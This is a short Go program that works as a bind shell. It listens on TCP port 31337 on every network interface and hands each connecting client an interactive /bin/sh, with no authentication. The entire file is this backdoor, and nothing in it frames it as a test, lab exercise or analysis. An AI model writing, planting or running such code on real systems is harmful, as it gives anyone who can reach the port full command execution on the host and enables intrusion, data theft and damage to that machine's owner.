package main

import (
	"net"
	"os/exec"
)

func main() {
	l, _ := net.Listen("tcp", "0.0.0.0:31337")
	for {
		c, err := l.Accept()
		if err != nil {
			continue
		}
		go func(c net.Conn) {
			cmd := exec.Command("/bin/sh")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			cmd.Run()
			c.Close()
		}(c)
	}
}
